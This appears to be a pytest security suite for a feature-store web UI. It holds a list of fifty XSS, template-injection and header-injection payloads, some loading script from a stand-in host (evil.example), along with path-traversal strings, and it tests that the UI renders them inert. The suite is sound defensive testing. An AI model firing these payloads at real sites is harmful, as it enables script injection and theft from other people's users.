"""Words and values of others cannot run, load or be framed; nobody else can ask, or change a thing."""

import re
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

import skewless as sl
import skewless.ui
from skewless.errors import ConfigError
from skewless.testing.clock import SettableClock
from skewless.ui.app import PAGES, make_app
from skewless.ui.security import HEADERS
from skewless.ui.server import is_local, serve
from tests.ui.repo import NOON, Document, crawl

EVIL = [
    "<script>window.evil=1</script>",
    "<img src=x onerror='window.evil=1'>",
    '"><svg/onload=window.evil=1>',
    "' onmouseover='window.evil=1",
    "</title><script>window.evil=1</script>",
    "</textarea><script>window.evil=1</script>",
    "javascript:window.evil=1",
    "<a href='javascript:window.evil=1'>x</a>",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<iframe srcdoc='<script>parent.evil=1</script>'>",
    "<style>*{display:none}</style>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example><input name=q>",
    "<math><mi//xlink:href='data:x,<script>window.evil=1</script>'>",
    "\"'`<>&;",
    "&lt;script&gt;window.evil=1&lt;/script&gt;",
    "\u202egnp.exe",
    "\x00<b>nul</b>",
    "a\r\nSet-Cookie: evil=1",
    "]]><script>window.evil=1</script>",
    "--><script>window.evil=1</script>",
    "<!--<img src='--><img src=x onerror=window.evil=1>'>",
    "<svg><animate onbegin=window.evil=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.evil=1>",
    "<xss autofocus tabindex=1 onfocus=window.evil=1>",
    "<video><source onerror=window.evil=1>",
    "<object data='data:text/html,<script>window.evil=1</script>'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "x' style='background:url(http://evil.example)",
    "<template><script>window.evil=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.evil=1>'>",
    "\uff1cscript\uff1ewindow.evil=1\uff1c/script\uff1e",
    "<sCrIpT>window.evil=1</ScRiPt>",
    "<<script>window.evil=1//<</script>",
    "%3Cscript%3Ewindow.evil=1%3C/script%3E",
    "<script/src=//evil.example/x.js>",
    "<button formaction=javascript:window.evil=1>go",
    "<isindex action=javascript:window.evil=1>",
    "\\u003cscript\\u003ewindow.evil=1\\u003c/script\\u003e",
    "<p hidden=until-found onbeforematch=window.evil=1>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<table background=javascript:window.evil=1>",
    "<body onload=window.evil=1>",
    "<input value=x onfocus=window.evil=1 autofocus>",
    "<marquee onstart=window.evil=1>",
    "<set attributeName=onmouseover to=window.evil=1>",
    "<use href='data:image/svg+xml,<svg id=x onload=window.evil=1>#x'>",
]
"""Fifty texts that have run in somebody's page."""


def dressed(folder: Any, texts: list[str]) -> sl.FeatureStore:
    """A repo with these texts in every place that takes a text: words, tags, owners, keys, values."""
    at = iter(range(10**9))

    def text() -> str:
        return texts[next(at) % len(texts)]

    clock = SettableClock(NOON)
    card = sl.Entity("card", description=text(), card_id=sl.Column(str, text(), pii="direct"))
    pays = sl.Source(
        "pays",
        schema={"card_id": str, "city": sl.Column(str, text(), unit=text(), tags={text(): text()})},
        event_time="at",
        owner=text(),
        description=text(),
    )
    views = [
        sl.FeatureView(
            f"View{number}",
            entity=card,
            source=pays,
            features={
                f"city_{number}": pays.city.latest().describe(
                    text(), unit=text(), tags={text(): text()}, owner=text()
                ),
                f"is_{number}": pays.where(pays.city == text()).count("1h"),
            },
            owner=text(),
            description=text(),
            tags={text(): text()},
            deprecated=text(),
        )
        for number in range(4)
    ]
    service = sl.FeatureService("model", views, description=text(), owner=text())
    fs = sl.FeatureStore(folder, clock=clock)
    fs.apply([*views, service], who=text())
    rows = [{"card_id": each, "city": each, "at": "2026-01-02T11:30:00Z"} for each in texts]
    fs.push("pays", rows)
    fs.push("pays", [rows[0], {"card_id": "c", "city": texts[0], "at": texts[1]}])
    spine = [{"card_id": text(), "at": "2026-01-02T11:40:00Z", "label": text()}]
    made = fs.get_historical_features(spine, "model", timestamp="at")
    fs.log_model(text(), made, note=text())
    return fs


def shape(page: Document) -> set[tuple[str, str]]:
    """The elements of a page with the names of their attributes."""
    return {(tag, name) for tag, given in page.elements for name in [*given, ""]}


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with dressed(tmp_path_factory.mktemp("evil"), EVIL) as fs:
        yield TestClient(make_app(fs), base_url="http://localhost")


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Any:
    texts = [f"text {number}" for number in range(len(EVIL))]
    with dressed(tmp_path_factory.mktemp("benign"), texts) as fs:
        yield TestClient(make_app(fs), base_url="http://localhost")


def test_the_corpus_is_as_large_as_it_says() -> None:
    assert len(EVIL) == len(set(EVIL)) == 50


def test_no_text_becomes_an_element_or_an_attribute(evil: TestClient, benign: TestClient) -> None:
    known = set().union(*(shape(Document(found.text)) for found in crawl(benign).values()))
    found = crawl(evil)
    assert len(found) > 40
    for address, answer in found.items():
        assert answer.status_code < 500, address
        if answer.headers["content-type"].startswith("text/html"):
            assert shape(Document(answer.text)) - known == set(), address


def test_what_a_request_says_does_not_become_an_element_either(
    evil: TestClient, benign: TestClient
) -> None:
    def shapes(client: TestClient, text: str) -> dict[str, set[tuple[str, str]]]:
        asked = {
            "search": ("/search", {"q": text}),
            "key": ("/explore", {"of": "card", "key.card_id": text}),
            "at": ("/explore", {"of": "card", "key.card_id": "c", "at": text}),
            "act": ("/acts/silence", {"of": text, "kind": text}),
            "replay": ("/replay", {"request": text}),
            "of": ("/explore", {"of": text}),
            "feature": ("/explore", {"of": "card", "key.card_id": "c", "feature": text}),
        }
        return {
            name: shape(Document(client.get(path, params=given).text))
            for name, (path, given) in asked.items()
        }

    known = shapes(benign, "nothing like it")
    for text in EVIL:
        for name, found in shapes(evil, text).items():
            extra = {
                each for each in found - known[name] if each[0] in {"script", "iframe", "style"}
            }
            assert extra == set()
            assert not any(attribute.startswith("on") for _, attribute in found)


def test_no_page_has_inline_scripts_or_styles(client: TestClient) -> None:
    for address, answer in crawl(client).items():
        if answer.headers["content-type"].startswith("text/html"):
            for tag, given in Document(answer.text).elements:
                assert "style" not in given, (address, tag)
                assert tag != "style"
                assert tag != "script" or str(given["src"]).startswith("/static/")
                assert not any(name.startswith("on") for name in given), (address, tag)


@pytest.mark.parametrize("address", ["/", "/nothing", "/static/skewless.css", "/views/Nope"])
def test_every_answer_has_the_headers(client: TestClient, address: str) -> None:
    headers = client.get(address).headers
    assert {name: headers.get(name) for name in HEADERS} == HEADERS


def test_a_failure_shows_no_trace_and_has_the_headers_too(
    store: sl.FeatureStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: Any) -> Any:
        raise RuntimeError("a secret of the machine")

    monkeypatch.setitem(PAGES, "/changes", fails)
    client = TestClient(make_app(store), "http://localhost", raise_server_exceptions=False)
    answer = client.get("/changes")
    assert answer.status_code == 500
    assert "secret" not in answer.text
    assert {name: answer.headers.get(name) for name in HEADERS} == HEADERS


def test_values_are_not_kept_by_browsers(client: TestClient) -> None:
    assert client.get("/explore").headers["cache-control"] == "no-store"


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "", "10.0.0.1:6567"])
def test_other_names_of_this_machine_are_refused(client: TestClient, host: str) -> None:
    assert client.get("/", headers={"host": host}).status_code == 421


@pytest.mark.parametrize("host", ["localhost:6567", "127.0.0.1", "[::1]:80", "LOCALHOST"])
def test_this_machine_is_answered(client: TestClient, host: str) -> None:
    assert client.get("/", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
@pytest.mark.parametrize("path", ["/", "/explore", "/static/skewless.js"])
def test_nothing_can_be_changed(client: TestClient, method: str, path: str) -> None:
    assert client.request(method, path).status_code == 405


def test_reading_every_page_leaves_registry_and_ledger_as_they_were(
    client: TestClient, store: sl.FeatureStore
) -> None:
    def held() -> Any:
        return store.runtime.registry.dump(), list(store.runtime.ledger.records())

    before = held()
    crawl(client)
    client.get("/explore", params={"of": "card", "key.card_id": "c1", "at": "2026-01-02T11:00:00Z"})
    assert held() == before


@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.2", "::", "catalogue.example"])
def test_it_does_not_listen_for_other_machines(host: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="other machines need TLS"):
        serve(str(tmp_path), host=host, port=0, at=None)
    assert is_local("127.0.0.1")


def test_static_files_do_not_lead_out_of_their_folder(client: TestClient) -> None:
    for path in ("/static/../app.py", "/static/%2e%2e/app.py", "/static//etc/passwd", "/static/"):
        assert client.get(path).status_code == 404


def test_scripts_are_small_ours_and_make_no_code() -> None:
    static = Path(skewless.ui.__file__).parent / "static"
    files = {path.name: path.read_bytes() for path in static.iterdir()}
    assert set(files) == {"favicon.svg", "skewless.css", "skewless.js", "theme.js"}
    assert sum(map(len, files.values())) < 150_000
    for name in ("skewless.js", "theme.js"):
        assert not re.search(rb"\beval\b|Function\(|document\.write|https?://", files[name])


def test_each_text_of_the_corpus_is_shown_as_it_is(evil: TestClient) -> None:
    page = Document(evil.get("/search", params={"q": "", "all": "1"}).text)
    shown = [text for text in EVIL if text in page.text]
    assert len(shown) > 3
